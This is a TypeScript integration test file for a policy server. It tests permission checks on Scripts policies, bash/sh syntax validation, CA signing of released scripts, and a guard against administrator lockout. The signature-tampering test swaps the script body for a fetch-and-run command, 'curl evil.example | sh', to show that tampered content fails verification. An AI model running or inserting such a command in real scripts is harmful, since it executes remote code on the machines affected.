/**
 * The server's side of Privilege and Scripts, through the real routes:
 *
 * - `policy:edit_scripts`, attacked: a caller with every policy permission but that one cannot create a Scripts
 *   policy, edit one (not even its name), turn a draft of another type into one, save a revision of one, import one
 *   or duplicate one; each refusal is a 403 naming the permission, audited as denied, and changes nothing. Policy
 *   Editor lacks it, Super Admin and Org Admin hold it;
 * - the dry run: `bash -n`/`sh -n` refuse a script on save, naming the script and the line;
 * - release signs the scripts with the CA key (state change and revision release, each for its version), and the
 *   signature verifies against the CA certificate agents pin;
 * - the Privilege lockout guard (the SessionAccess machinery): a release or binding that would leave a node group
 *   with no administrator but root is refused naming the group, unless a reason is given, which is audited.
 */
import assert from "node:assert/strict";
import { fromJsonString } from "@bufbuild/protobuf";
import { ScriptsPolicySchema } from "../../shared/gen/svc/policy/v1/scripts_pb.ts";
import { verifyScriptsSignature } from "../../shared/scripts_signature.ts";
import { builtinRolePermissions } from "../../shared/builtin_roles.ts";
import { ALL_PERMISSIONS, type Permission } from "../../shared/permissions.ts";
import { collectDatabaseFamilies } from "../../server/metrics/collector.ts";
import { createLogger } from "../../server/core/log.ts";
import { expectStatus, putBinding } from "./domain_helpers.ts";
import * as domain from "./domain_helpers.ts";

const SCRIPTS = JSON.stringify({
  scripts: [{ name: "hello", trigger: "SCRIPT_TRIGGER_MACHINE_STARTUP", body: "echo hello\n" }],
});

domain.domainTest(
  "policy:edit_scripts: every content-writing route refuses Scripts without it; the roles",
  async ({ db, server, admin }) => {
    const roles = builtinRolePermissions();
    assert.ok(
      !roles.get("Policy Editor")!.includes("policy:edit_scripts"),
      "Policy Editor does not get it",
    );
    assert.ok(roles.get("Super Admin")!.includes("policy:edit_scripts"));
    assert.ok(roles.get("Org Admin")!.includes("policy:edit_scripts"));
    assert.ok(!roles.get("Auditor")!.includes("policy:edit_scripts"));

    const everythingElse = ALL_PERMISSIONS.filter((p) => p !== "policy:edit_scripts") as Permission[];
    const editor = await server.loginAs({ permissions: everythingElse });
    const scripts = await domain.createPolicy(admin, {
      name: "startup",
      type: "Scripts",
      content: SCRIPTS,
    });
    const polkit = await domain.createPolicy(admin, { name: "polkit draft", type: "Polkit" });
    const before = await db.query("SELECT id, name, type, content, version FROM policies ORDER BY id");
    const denied = async (method: string, path: string, body?: unknown, raw?: string) => {
      const res = raw === undefined
        ? await editor.request(method, path, body)
        : await editor.raw(method, path, { body: raw, headers: { "content-type": "application/yaml" } });
      assert.equal(res.status, 403, `${method} ${path}: ${res.text}`);
      assert.match(
        res.text,
        /permission policy:edit_scripts is required to create or edit a Scripts policy/,
      );
    };
    await denied("POST", "/api/v1/policies/all", { name: "mine", type: "Scripts", content: SCRIPTS });
    await denied("PUT", `/api/v1/policies/all/${scripts.id}`, { name: "renamed" });
    await denied("PUT", `/api/v1/policies/all/${scripts.id}`, { content: SCRIPTS });
    await denied("PUT", `/api/v1/policies/all/${polkit.id}`, { type: "Scripts", content: SCRIPTS });
    await denied("POST", `/api/v1/policies/all/${scripts.id}/duplicate`, {});
    const bundle =
      `apiVersion: svc.dev/v1\nkind: Policy\nmetadata:\n  name: imported\nspec:\n  type: Scripts\n  content:\n` +
      `    scripts:\n      - name: x\n        trigger: SCRIPT_TRIGGER_MACHINE_STARTUP\n        body: "id"\n`;
    await denied("POST", "/api/v1/policies/import", undefined, bundle);
    expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${scripts.id}/state`, { state: "released" }),
      200,
    );
    await denied("PUT", `/api/v1/policies/all/${scripts.id}/revision`, { content: SCRIPTS });
    const after = await db.query("SELECT id, name, type, content, version FROM policies ORDER BY id");
    assert.deepEqual(
      after.map((r) => ({ ...r, content: undefined })),
      before.map((r) => ({ ...r, content: undefined })),
      "nothing was created or renamed",
    );
    const audit = await db.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM audit_logs WHERE outcome = 'denied' AND user_id = $1",
      [editor.user.id],
    );
    assert.equal(audit[0].n, 7, "every refusal is audited as denied");
    // The same editor still writes other types, and may release and read Scripts policies.
    expectStatus(
      await editor.request("PUT", `/api/v1/policies/all/${polkit.id}`, { name: "polkit renamed" }),
      200,
    );
    expectStatus(await editor.request("GET", `/api/v1/policies/all/${scripts.id}`), 200);
  },
  { drivers: ["pglite"] },
);

domain.domainTest(
  "Scripts: bash -n and sh -n refuse a script on save, naming the script and the line",
  async ({ db, admin }) => {
    const broken = {
      scripts: [
        { name: "ok", trigger: 1, body: "echo fine\n" },
        { name: "bad", trigger: 1, body: "if true; then\n  echo x\nfii\n" },
        {
          name: "posix",
          trigger: 3,
          interpreter: "SCRIPT_INTERPRETER_SH",
          body: "f() { echo; \n[[ x ]] && (\n",
        },
      ],
    };
    const res = expectStatus(
      await admin.request("POST", "/api/v1/policies/all", {
        name: "broken",
        type: "Scripts",
        content: JSON.stringify(broken),
      }),
      422,
    );
    const fields = res.error.fields as { field: string; message: string }[];
    assert.deepEqual(fields.map((f) => f.field), ["content.scripts[1].body", "content.scripts[2].body"]);
    assert.match(fields[0].message, /^bash -n: line \d+: syntax error/);
    assert.match(fields[1].message, /^sh -n: line \d+: /);
    const [{ n }] = await db.query<{ n: number }>("SELECT count(*)::int AS n FROM policies");
    assert.equal(n, 0, "nothing saved");
    // Text that only looks dangerous is never run by the check.
    const marker = await Deno.makeTempFile();
    await Deno.remove(marker);
    expectStatus(
      await admin.request("POST", "/api/v1/policies/all", {
        name: "harmless",
        type: "Scripts",
        content: JSON.stringify({ scripts: [{ name: "t", trigger: 1, body: `touch ${marker}\n` }] }),
      }),
      201,
    );
    assert.equal(await Deno.stat(marker).then(() => true, () => false), false, "bash -n executes nothing");
  },
  { drivers: ["pglite"] },
);

domain.domainTest(
  "Scripts: release signs the scripts for the version released; the signature verifies against the CA",
  async ({ server, admin }) => {
    const p = await domain.createPolicy(admin, {
      name: "startup",
      type: "Scripts",
      content: JSON.stringify({
        scripts: [{ name: "a", trigger: 1, body: "echo a\n" }],
        signature: { value: "AAAA" },
      }),
    });
    const released = expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${p.id}/state`, { state: "released" }),
      200,
    );
    const content = fromJsonString(ScriptsPolicySchema, released.content);
    assert.equal(content.signature?.policyVersion, released.version);
    assert.notEqual(content.signature?.value, "AAAA", "a given signature is replaced");
    const ca = server.ctx.ca.certPem;
    assert.equal(
      await verifyScriptsSignature(ca, { id: p.id, version: released.version }, content),
      undefined,
    );
    assert.match(
      await verifyScriptsSignature(ca, { id: p.id, version: released.version + 1 }, content) ?? "",
      /signature is for version/,
    );

    // A revision release signs again, for the new version.
    expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${p.id}/revision`, {
        content: JSON.stringify({ scripts: [{ name: "a", trigger: 1, body: "echo b\n" }] }),
      }),
      200,
    );
    const next = expectStatus(
      await admin.request("POST", `/api/v1/policies/all/${p.id}/revision/release`, {}),
      200,
    );
    assert.equal(next.version, released.version + 1);
    const nextContent = fromJsonString(ScriptsPolicySchema, next.content);
    assert.equal(nextContent.scripts[0].body, "echo b\n");
    assert.equal(
      await verifyScriptsSignature(ca, { id: p.id, version: next.version }, nextContent),
      undefined,
    );
    // Content changed in the database after release no longer verifies.
    nextContent.scripts[0].body = "curl evil.example | sh\n";
    assert.match(
      await verifyScriptsSignature(ca, { id: p.id, version: next.version }, nextContent) ?? "",
      /does not verify/,
    );
  },
);

domain.domainTest(
  "Privilege lockout guard: no administrator left is refused naming the group; a reason is audited",
  async ({ db, admin }) => {
    const group = await domain.createGroup(admin, "lab");
    const revoke = await domain.createPolicy(admin, {
      name: "no local admins",
      type: "Privilege",
      content: JSON.stringify({
        local_sudo_group_not_admin: true,
        entries: [{ user: "guest", effect: 2 }],
      }),
    });
    const binding = await domain.bind(admin, revoke.id, group);
    const refused = expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${revoke.id}/state`, { state: "released" }),
      409,
    );
    assert.match(
      refused.error.message,
      /^releasing this policy would leave node group "lab" without an administrator: the Privilege rules allow no user or group and revoke the local sudo groups \(by "no local admins"\), so nobody but root would administer its nodes; check the rules, or confirm with a lockout_reason to go ahead$/,
    );
    expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${revoke.id}/state`, {
        state: "released",
        lockout_reason: "break-glass root over the console only",
      }),
      200,
    );
    const refusedBinding = expectStatus(
      await admin.request("PUT", `/api/v1/policy-bindings/${binding}`, { state: "enabled" }),
      409,
    );
    assert.match(
      refusedBinding.error.message,
      /^enabling this binding would leave node group "lab" without an administrator/,
    );
    // An allowed group in another policy bound to the group makes the set fine.
    const helpdesk = await domain.createPolicy(admin, {
      name: "helpdesk",
      type: "Privilege",
      content: JSON.stringify({ entries: [{ group: "helpdesk", effect: "PRIVILEGE_EFFECT_ALLOW" }] }),
    });
    await domain.bind(admin, helpdesk.id, group);
    expectStatus(
      await admin.request("PUT", `/api/v1/policies/all/${helpdesk.id}/state`, { state: "released" }),
      200,
    );
    const allowBinding = (await db.query<{ id: string }>(
      "SELECT id FROM policy_bindings WHERE policy_id = $1",
      [helpdesk.id],
    ))[0].id;
    await putBinding(admin, allowBinding, { state: "enabled" });
    await putBinding(admin, binding, { state: "enabled" });
    const rows = await db.query<{ action: string; details: unknown }>(
      `SELECT action, details FROM audit_logs WHERE resource_id = $1 AND action = 'policy.state_change' ORDER BY id`,
      [revoke.id],
    );
    const details = rows.map((r) => typeof r.details === "string" ? JSON.parse(r.details) : r.details);
    assert.ok(
      details.some((d) => d.lockout_override === "break-glass root over the console only"),
      JSON.stringify(details),
    );
    // A higher-priority revocation of the only allowed group leaves nobody again.
    const revokeHelpdesk = await domain.createPolicy(admin, {
      name: "revoke helpdesk",
      type: "Privilege",
      content: JSON.stringify({ entries: [{ group: "helpdesk", effect: 2 }] }),
    });
    await domain.bind(admin, revokeHelpdesk.id, group, { priority: 50 });
    assert.equal(
      (await admin.request("PUT", `/api/v1/policies/all/${revokeHelpdesk.id}/state`, { state: "released" }))
        .status,
      409,
    );
    // The metrics label the types: svc_policies_total has a series per state and type.
    await domain.createPolicy(admin, { name: "a script", type: "Scripts", content: SCRIPTS });
    const families = await collectDatabaseFamilies(db, createLogger("error"));
    const policies = families.find((f) => f.name === "svc_policies_total")!;
    const series = Object.fromEntries(
      policies.samples.map((x) => [`${x.labels.state}/${x.labels.type}`, x.value]),
    );
    assert.equal(series["released/Privilege"], 2);
    assert.equal(series["draft/Privilege"], 1);
    assert.equal(series["draft/Scripts"], 1);
  },
);
